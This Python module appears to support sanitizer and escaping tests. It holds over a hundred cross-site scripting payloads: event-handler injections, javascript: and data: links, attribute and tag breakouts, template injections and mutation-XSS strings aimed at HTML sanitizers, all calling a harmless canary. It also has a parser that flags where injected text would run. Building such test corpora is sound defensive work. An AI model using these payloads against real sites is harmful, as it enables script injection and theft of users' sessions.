"""Texts that would run a script if a page showed one of them as it is, and what of a page would run."""

from html.parser import HTMLParser
from itertools import cycle, islice
from urllib.parse import urlsplit

# Calls this; a test in a browser sees the title change, all others look for the name.
CANARY = "canary7"
RUN = f"{CANARY}()"

_EVENTS = [
    "<img src=x onerror={0}>",
    "<IMG SRC=x OnErRoR={0}>",
    "<img/src=x/onerror={0}>",
    "<img src=x onerror\n=\n{0}>",
    "<img src=x onerror=&#99;anary7()>",
    "<img src=x\x0conerror={0}>",
    "<svg onload={0}>",
    "<svg/onload={0}//",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{0}><text y=9>x</text></a></svg>",
    "<body onload={0}>",
    "<details open ontoggle={0}>x</details>",
    "<input autofocus onfocus={0}>",
    "<video><source onerror={0}></video>",
    "<audio src=x onerror={0}></audio>",
    "<marquee onstart={0}>x</marquee>",
    "<div contenteditable autofocus onfocus={0}>x</div>",
    "<a href=# onclick={0}>x</a>",
    "<b onmouseover={0}>x</b>",
    "<p style=animation-name:x onanimationstart={0}>x</p>",
    "<xss onpointerenter={0}>x</xss>",
    "<dialog open onclose={0}>x</dialog>",
    "<object onerror={0}></object>",
    "<style onload={0}></style>",
    "<link rel=stylesheet href=data:, onload={0}>",
    "<iframe onload={0}></iframe>",
    "<button popovertarget=x onclick={0}>x</button>",
    "<img src=`x` onerror={0}>",
    "<input type=image src=x onerror={0}>",
    "<svg><set onbegin={0} attributeName=x>",
    "<video><track default src=x onerror={0}></video>",
    "<p oncontentvisibilityautostatechange={0} style=content-visibility:auto>x</p>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={0}>#x'/></svg>",
]
_ELEMENTS = [
    "<script>{0}</script>",
    "<ScRiPt>{0}</sCrIpT>",
    "<script >{0}</script >",
    "<script\n>{0}</script\n>",
    "<script src=data:text/javascript,{0}></script>",
    "<script src=//example.org/{0}></script>",
    "<script type=module>{0}</script>",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<<script>{0}//<</script>",
    "<script>{0}",
    "<iframe src=javascript:{0}></iframe>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<object data=javascript:{0}></object>",
    "<embed src=javascript:{0}>",
    "<form action=javascript:{0}><input type=submit></form>",
    "<form id=x></form><button form=x formaction=javascript:{0}>x</button>",
    "<base href=javascript:{0}//>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<link rel=import href=data:text/html,{0}>",
    "<style>@import 'data:text/css,{0}'</style>",
    "<p style='background:url(javascript:{0})'>x</p>",
    "<p style='width:expression({0})'>x</p>",
    "<template><script>{0}</script></template>",
    "<applet code={0}></applet>",
    "<frameset onload={0}>",
    "<isindex action=javascript:{0} type=submit>",
]
_LINKS = [
    "<a href=javascript:{0}>x</a>",
    "<a href='JaVaScRiPt:{0}'>x</a>",
    "<a href='java\tscript:{0}'>x</a>",
    "<a href='java\nscript:{0}'>x</a>",
    "<a href=' javascript:{0}'>x</a>",
    "<a href='\x01javascript:{0}'>x</a>",
    "<a href='javascript&colon;{0}'>x</a>",
    "<a href='&#106;avascript:{0}'>x</a>",
    "<a href='&#x6a;avascript:{0}'>x</a>",
    "<a href='java&Tab;script:{0}'>x</a>",
    "<a href='java&NewLine;script:{0}'>x</a>",
    "<a href='vbscript:{0}'>x</a>",
    "<a href='data:text/html,<script>{0}</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>{0}</a>",
    "<a href='//example.org/{0}'>x</a>",
    "<a href='\\\\example.org/{0}'>x</a>",
    "<a href='/\\example.org/{0}'>x</a>",
    "<a href='blob:{0}'>x</a>",
    "<a href='file:///etc/{0}'>x</a>",
    "<a href='view-source:javascript:{0}'>x</a>",
    "<a href='feed:javascript:{0}'>x</a>",
    "[x](javascript:{0})",
    "[x](data:text/html,{0})",
    "<javascript:{0}>",
    "javascript:{0}",
]
# Each begins where a careless page puts a text: in an attribute, a title, a script, a comment.
_CONTEXTS = [
    '"><script>{0}</script>',
    "'><script>{0}</script>",
    '" onmouseover="{0}',
    "' onmouseover='{0}",
    '" autofocus onfocus={0} x="',
    "` onmouseover=`{0}",
    "x onmouseover={0}",
    "</title><script>{0}</script>",
    "</textarea><script>{0}</script>",
    "</select><script>{0}</script>",
    "</option></select><img src=x onerror={0}>",
    "</script><script>{0}</script>",
    "</style><script>{0}</script>",
    "</noscript><script>{0}</script>",
    "--><script>{0}</script>",
    "--!><script>{0}</script>",
    "]]><script>{0}</script>",
    "</a><img src=x onerror={0}>",
    "</td></table><img src=x onerror={0}>",
    "'-{0}-'",
    '"-{0}-"',
    "\\'-{0}//",
    '\\"-{0}//',
    "';{0}//",
    "${{{0}}}",
    "{{{{{0}}}}}",
    "{{% debug %}}{0}",
    "#set(x={0})",
    '#eval("{0}")',
    "\u2028{0}\u2029",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{0}",
    "%3Cscript%3E{0}%3C/script%3E",
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "+ADw-script+AD4-{0}+ADw-/script+AD4-",
    "\uff1cscript\uff1e{0}\uff1c/script\uff1e",
    "\u02c2script\u02c3{0}",
]
# Cleaned markup that a browser reads again in another way.
_READ_AGAIN = [
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={0}&gt;'>",
    "<svg></p><style><a title='</style><img src=x onerror={0}>'>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={0}>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror={0}></style></annotation-xml></math>",
    "<svg><desc><noscript>&lt;/noscript>&lt;img src=x onerror={0}></desc></svg>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror={0}>'>",
    "<table><td><style><!--</style></td><td title='--><img src=x onerror={0}>'>",
    "<xmp><p title='</xmp><img src=x onerror={0}>'>",
    "<listing>&lt;img src=x onerror={0}&gt;</listing>",
    "<plaintext><img src=x onerror={0}>",
    "<textarea><img src=x onerror={0}></textarea>",
    "<title><img src=x onerror={0}></title>",
    "<!--<img src='--><img src=x onerror={0}//'>",
    "<!-- --!><img src=x onerror={0}> -->",
    "<![CDATA[<img src=x onerror={0}>]]>",
    "<?xml version='1.0'?><?x <img src=x onerror={0}> ?>",
    "<!DOCTYPE x [<!ENTITY y '<script>{0}</script>'>]>&y;",
    "<p id='x'><p id=\"</p><img src=x onerror={0}>\">",
    "<a href='https://example.org/\"onmouseover=\"{0}'>x</a>",
    "<a href=\"https://example.org/'onmouseover='{0}\">x</a>",
    "<a href='https://example.org/<script>{0}</script>'>x</a>",
    "<ol start='1\" onmouseover=\"{0}'><li>x</li></ol>",
    "<p class='MsoNormal'><o:p onclick={0}>x</o:p><script>{0}</script></p>",
    "<li><img src=x onerror={0}></li>",
    "<blockquote cite=javascript:{0}>x</blockquote>",
    "<img src=x:x alt='<img src=x onerror={0}>'>",
    "<b><svg><b onload={0}>x</b></svg></b>",
    "<p>x</p>\x00<scr\x00ipt>{0}</script>",
    "<br/onclick={0}><br title='>' onclick={0}>",
]
PAYLOADS = [each.format(RUN) for each in (*_EVENTS, *_ELEMENTS, *_LINKS, *_CONTEXTS, *_READ_AGAIN)]
_take_next = cycle(PAYLOADS)


def hostile(longest=None):
    """Return payloads as one text: all of them, or as many of the next ones as fit in `longest` characters."""
    if longest is None:
        return "\n".join(PAYLOADS)
    text = ""
    for each in islice(_take_next, len(PAYLOADS)):
        each = " ".join(each.split())
        if len(text) + len(each) + 1 <= longest:
            text += f" {each}" if text else each
        elif text and longest - len(text) < 20:
            break
    return text or CANARY[:longest]


_RUN = {
    "style",
    "iframe",
    "object",
    "embed",
    "applet",
    "base",
    "frame",
    "frameset",
    "xmp",
    "plaintext",
    "math",
}
_ADDRESSES = {"href", "src", "action", "formaction", "data", "xlink:href", "poster", "srcdoc", "cite"}
_SCHEMES = {"", "http", "https", "mailto", "tel", "sms", "webcal"}


class _Active(HTMLParser):
    """Notes every tag and attribute that holds the canary where it would run or lead somewhere, and every script inside the page."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found, self._script = [], None

    def handle_starttag(self, tag, attrs):
        written = self.get_starttag_text()
        names = {name for name, _ in attrs}
        values = dict(attrs)
        for name, value in attrs:
            value = value or ""
            if (
                name.startswith("on")
                or name in ("style", "srcdoc")
                or CANARY in name
                or name in _ADDRESSES
                and not _leads_nowhere_else(value)
            ):
                self.found.append(written)
        # A text in an attribute is escaped, so its signs "<" are none.
        if CANARY in written and "<" in written[1:]:
            self.found.append(written)
        if CANARY in tag or tag in _RUN or (tag == "meta" and "http-equiv" in names):
            self.found.append(written)
        if tag == "script":
            kind = values.get("type", "")
            self._script = kind if "src" not in names else "src"
            if "src" not in names and kind not in ("importmap", "application/json", "application/ld+json"):
                self.found.append(written)

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        if tag == "script":
            self._script = None

    def handle_data(self, data):
        # A script of data may hold the words, but nothing that a browser would read as the end of it.
        if self._script == "importmap" and CANARY in data:
            self.found.append(data)


def _leads_nowhere_else(address):
    """Return whether an address runs nothing, and leaves the site only by a whole address of a usual kind."""
    plain = "".join(sign for sign in address if sign > " ").replace("\\", "/")
    try:
        parts = urlsplit(plain)
    except ValueError:
        return False
    return parts.scheme.lower() in _SCHEMES and (bool(parts.scheme) or not plain.startswith("//"))


def what_runs(page):
    """Return the tags of `page` (HTML) that would run something, load something or lead to a script: a list of texts."""
    reader = _Active()
    reader.feed(page)
    reader.close()
    return reader.found
